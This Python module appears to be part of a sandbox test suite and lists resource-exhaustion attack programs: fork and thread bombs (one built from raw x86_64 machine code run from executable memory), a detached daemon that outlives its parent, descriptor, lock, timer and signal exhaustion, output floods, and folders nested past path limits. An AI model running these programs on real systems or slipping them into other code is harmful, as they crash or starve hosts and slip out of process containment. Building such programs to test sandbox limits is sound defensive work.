"""Programs that want many of something: processes, threads, descriptors, lines, locks, timers, folders."""

from __future__ import annotations

from attack_programs import parse_blocks

NUMBERS = parse_blocks(r"""
# -- fork_bomb: forks until it cannot
import os
def attempt():
    made = 0
    while made < 100:
        if os.fork() == 0:
            while True: pass
        made += 1
    return True

# -- fork_bomb_by_number: forks by every system call that forks
def attempt():
    made = 0
    for _ in range(200):
        for name in ("fork", "vfork"):
            if NUMBERS[name][ARM] >= 0:
                pid = syscall(name)
                if pid == 0: os._exit(0)
                made += pid > 0
    return made

# -- daemon: leaves a process behind that writes later
import os, time
def attempt():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(5)
            open("@CANARY@/open/loot", "w").close()
        os._exit(0)
    return True

# -- thread_bomb: starts threads until it cannot
import threading, time
def attempt():
    threading.stack_size(65536)
    for _ in range(20_000): threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
    return True

# -- thread_bomb_raw: starts threads that start threads
import _thread, time
def spread():
    while True:
        try: _thread.start_new_thread(spread, ())
        except RuntimeError: time.sleep(0.01)
def f(x):
    spread()

# -- thread_bomb_bare: starts threads of machine code that need no stack of their own
import ctypes, mmap, os
def attempt():
    if os.uname().machine != "x86_64": return False
    area = mmap.mmap(-1, 4096, prot=7, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    # while (count < 20000 && (id = clone(THREAD)) >= 0) { if (!id) for (;;) pause(); count++; }
    area.write(bytes.fromhex(
        "5331db81fb204e00007d20b838000000bf000f050031f631d24d31d24d31"
        "c00f0585c078067408ffc3ebd889d85bc3b8220000000f05ebf7"))
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))() > 2000

# -- descriptors: opens files until it cannot, then answers
import os
def attempt():
    kept = [os.open("/dev/null", 0) for _ in range(100_000)]
    return len(kept)

# -- descriptors_kept: opens files until it cannot, and returns with all of them open
import os
def f(x):
    try:
        while True: os.dup(0)
    except OSError: return 0

# -- output_flood: prints without end
def f(x):
    while True: print("x" * 65536)

# -- output_flood_all: writes to every descriptor without end, past every buffer
import os
def f(x):
    while True:
        for fd in range(64):
            try: os.write(fd, b"x" * 65536)
            except OSError: pass

# -- error_flood: writes errors without end, in threads
import os, threading
def flood():
    while True: os.write(2, b"x" * 65536)
def f(x):
    for _ in range(4): threading.Thread(target=flood, daemon=True).start()
    flood()

# -- output_at_end: writes one byte a thousand million bytes into its output
import os
def f(x):
    for fd in (1, 2):
        for size in (1 << 50, 1 << 40, 1 << 32, 1 << 29):
            try: os.pwrite(fd, b"x", size)
            except OSError: pass
    return 0

# -- warnings_flood: a warning for each of a million lines
import warnings
def f(x):
    warnings.simplefilter("always")
    for number in range(10**7): warnings.warn("x" * 1000)
    return 0

# -- locks: takes a million file locks
import fcntl, tempfile
def attempt():
    file = tempfile.TemporaryFile()
    for number in range(10**7): fcntl.lockf(file, fcntl.LOCK_EX, 1, number * 2, 0)
    return True

# -- timers: makes timers until it cannot
def attempt():
    made = 0
    timer = ctypes.c_int()
    event = (ctypes.c_int32 * 16)(0, 0, 0, 1)
    while made < 100_000 and syscall("timer_create", 0, event, ctypes.byref(timer)) == 0: made += 1
    return made >= 100_000

# -- signals_queued: queues signals to itself until it cannot
import os, signal
def attempt():
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    information, made = (ctypes.c_int32 * 32)(0, 0, -1), 0
    while made < 200_000 and syscall("rt_sigqueueinfo", os.getpid(), 40, information) == 0: made += 1
    return made >= 200_000

# -- files_in_flight: hides open files in messages that are never read
import array, os, socket
def attempt():
    one, two = socket.socketpair()
    one.setblocking(False)
    hidden = 0
    while hidden < 100_000:
        kept = [os.open("/dev/null", 0) for _ in range(200)]
        one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", kept))])
        for fd in kept: os.close(fd)
        hidden += 200
    return True

# -- folders_deep: folders in folders, deeper than any path
import os, tempfile
def attempt():
    os.chdir(tempfile.mkdtemp())
    for _ in range(200_000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    return True
""")
